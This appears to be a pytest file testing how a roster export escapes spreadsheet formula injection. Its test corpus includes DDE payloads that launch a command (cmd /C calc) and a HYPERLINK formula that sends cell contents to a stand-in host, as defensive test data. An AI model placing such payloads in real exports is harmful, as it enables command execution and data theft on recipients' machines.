"""A spreadsheet carries nothing out that stands in an exported file (abuse case 57)."""

import string

import pytest

from commons.roster.exports.cells import bare, dangerous, neutral

CORPUS = [
    "=cmd|' /C calc'!A0",
    "+12135550142",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://example.test?x="&A1)',
    "＝1+1",
    "\u3000＋1",
    "－1+1",
    "\ufeff＠SUM(A1)",
]


@pytest.mark.parametrize("cell", CORPUS)
def test_a_cell_that_would_be_a_formula_is_text_and_comes_back(cell: str) -> None:
    assert neutral(cell) == f"'{cell}"
    assert bare(neutral(cell)) == cell


@pytest.mark.parametrize("cell", ["", "Ana", "O'Neil", "'tis", "Ana = Bo", "0142", "  ", "'"])
def test_an_ordinary_cell_stays_as_it_is(cell: str) -> None:
    assert neutral(cell) == bare(cell) == cell


def test_a_name_that_is_marked_itself_comes_back_as_it_was() -> None:
    for cell in ("'=1", "''=1", "'+1"):
        assert bare(neutral(cell)) == cell
        assert neutral(cell) != cell


def test_no_letter_or_digit_is_dangerous() -> None:
    assert not [c for c in string.ascii_letters + string.digits + "áñ한字" if dangerous(c)]
